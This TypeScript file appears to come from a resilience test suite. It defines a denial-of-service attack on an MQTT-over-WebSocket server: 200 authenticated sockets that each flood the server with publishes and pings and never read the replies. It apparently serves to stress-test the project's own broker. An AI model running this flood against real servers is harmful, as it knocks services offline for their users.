import mqttPacket from 'mqtt-packet'
import type { Attack } from '../../support/attacker.ts'
import { keepOpen, meanwhile, messageOf, upgradeText } from '../../support/flooding.ts'
import { connectPacket, frameHead } from '../../support/raw-peer.ts'

/** Visitors' sockets, past CONNACK, that request responses of every kind, WebSocket pings included, and read none. */
export const attack: Attack = (target) => {
  const visitors = target.given.visitors as { uid: string; token: string }[]
  const publish = mqttPacket.generate({
    cmd: 'publish',
    topic: 'org/nobody/nowhere',
    payload: 'no message',
    qos: 1,
    messageId: 1,
    dup: false,
    retain: false,
  })
  const ask = Buffer.concat([
    ...Array.from({ length: 50 }, () => messageOf(Buffer.concat([publish, Buffer.from([0xc0, 0])]))),
    ...Array.from({ length: 200 }, () => Buffer.concat([frameHead('ping', 100), Buffer.alloc(100)])),
  ])
  let count = 0
  return keepOpen(target, { sockets: 200, addresses: 30, perSecond: 100 }, (socket) => {
    count += 1
    const visitor = visitors[count % visitors.length] ?? { uid: '', token: '' }
    const hello = connectPacket(visitor, { clientId: `${visitor.uid}/web/f${count}`, clean: true })
    socket.write(upgradeText)
    socket.once('data', () => {
      socket.write(messageOf(mqttPacket.generate(hello)))
      socket.once('data', () => {
        socket.pause()
        meanwhile(socket, 200, () => socket.write(ask))
      })
    })
  })
}
